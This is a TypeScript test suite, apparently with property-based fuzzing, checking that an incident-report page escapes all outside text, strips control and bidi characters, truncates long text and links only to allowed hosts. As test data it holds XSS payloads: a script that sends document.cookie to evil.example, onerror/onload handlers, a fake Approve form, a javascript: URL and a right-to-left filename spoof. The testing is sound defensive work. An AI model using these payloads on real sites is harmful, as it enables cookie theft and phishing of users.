import fc from 'fast-check';
import { view } from '../../../../lambdas/show-incident/view';
import { at, incident, isoAfter, seen, unseen } from '../../../support/incidents';
import { approval } from '../approvals/people';
import { byLink, gathered, series, signedIn, skeleton, words } from './seen';

/** A page on which everything that comes from outside says this. */
const pageWith = (text: string): string =>
  view(
    gathered({
      incident: incident({
        title: text,
        cause: text,
        alarms: { [text]: isoAfter(0) },
        startedBy: text,
        acknowledged: { by: text, at: isoAfter(600) },
        pages: [{ contact: text, rung: 1, at: isoAfter(302) }],
      }),
      timeline: [
        {
          at: isoAfter(1),
          step: text,
          finding: text,
          outcome: 'escalate',
          advice: text,
          act: { action: text, resource: text },
          refused: { act: text, because: text },
          evidence: { tail: [text], [text]: { [text]: text } },
        },
      ],
      approvals: [
        approval({
          resource: text,
          effect: text,
          because: text,
          undo: text,
          command: text,
          decisions: [{ decision: 'approve', contact: 'cto', identity: text, reason: text, at: isoAfter(180) }],
        }),
        approval({
          id: 'a2',
          status: 'refused',
          decisions: [{ decision: 'refuse', contact: text, identity: text, reason: text, at: isoAfter(180) }],
        }),
      ],
      phase: seen({ phase: 'session', because: text, until: at(5000) }),
      services: seen([
        { role: 'trading', look: seen({ running: 1, desired: 2, pending: 0, rollout: text, events: [text] }) },
        { role: 'dashboard', look: unseen(text) },
      ]),
      logs: seen({ lines: [{ at: at(700), message: text }], truncated: false }),
      metric: seen({ series: series({ label: text }) }),
    }),
    { ...byLink(), ...signedIn('team-lead') },
  );

const HARMLESS = skeleton(pageWith('harmless'));

test.each([
  '<script>fetch("https://evil.example/"+document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style></textarea><form action="https://evil.example"><button>Approve</button>',
  '<!-- ',
  '&lt;script&gt;',
  ']]><svg onload=alert(1)>',
  'one\n\n<h2>Approved by cto</h2>\r\nApproved',
])('%j makes no markup anywhere', (text) => {
  expect(skeleton(pageWith(text))).toEqual(HARMLESS);
});

test('nothing that anybody can write makes markup', () => {
  const pieces = fc.constantFrom('<', '>', '"', "'", '&', '/', '=', '`', '\n', '\u2028', '\u202e', '<b', '-->', 'a');
  const hostile = fc
    .array(fc.oneof(pieces, fc.string({ unit: 'binary' })), { minLength: 1 })
    .map((all) => `x${all.join('')}`);
  fc.assert(
    fc.property(hostile, (text) => expect(skeleton(pageWith(text))).toEqual(HARMLESS)),
    { numRuns: 60 },
  );
});

test('a log line that turns the reading direction, or hides, is shown with a mark where it does', () => {
  const page = pageWith('report\u202egpj.exe\u2066\u200b\u0007 end');
  expect(words(page)).toContain('report\ufffdgpj.exe\ufffd\ufffd\ufffd end');
  // biome-ignore lint/suspicious/noControlCharactersInRegex: those must not be there.
  expect(page).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\u0007]/);
});

test('colours for a terminal are left out', () => {
  expect(words(pageWith('\u001b[31;1mERROR\u001b[0m refused'))).toContain('ERROR refused');
});

test('a line break in a log line, a reason or an event makes no line of its own', () => {
  const page = pageWith('first\r\nsecond\u2028third\u0085fourth');
  expect(page).toContain('first second third\ufffdfourth');
  expect(page.replace(/<pre>.*?<\/pre>/s, '')).not.toMatch(/first[\r\n]+second/);
});

test('only the command keeps its lines, which are a part of it', () => {
  const page = view(gathered({ approvals: [approval({ command: 'one \\\n  --two <x>' })] }), byLink());
  expect(page).toContain('<pre><code>one \\\n  --two &lt;x&gt;</code></pre>');
});

test('a text of any length leaves the page readable: it is cut, and the cut is shown', () => {
  const text = 'x'.repeat(50_000);
  const line = { at: isoAfter(1), step: 'Check recent logs', finding: text, evidence: [text] };
  const page = view(
    gathered({
      incident: incident({ cause: text }),
      timeline: [line],
      logs: seen({ lines: [{ at: at(700), message: text }], truncated: false }),
    }),
    byLink(),
  );
  expect(page).toContain(`${'x'.repeat(299)}…`);
  expect(page).not.toContain('x'.repeat(600));
});

test('links lead to the consoles and to this site, whatever an alarm is called', () => {
  const targets = [...pageWith('javascript:alert(1)//').matchAll(/(?:href|action)="([^"]*)"/g)].map(([, url]) => url);
  const elsewhere = targets.filter(
    (url) =>
      !/^(\/(i|incidents|sign-in)[/?]|https:\/\/ap-south-1\.console\.aws\.amazon\.com\/|data:,$)/.test(url ?? ''),
  );
  expect(targets.length).toBeGreaterThan(4);
  expect(elsewhere).toEqual([]);
});

test('there is no script, no handler of an event, and nothing is fetched', () => {
  const page = pageWith('harmless');
  expect(page).not.toMatch(/<script|\son\w+=|<img|<iframe|@import|url\(|http-equiv/i);
});
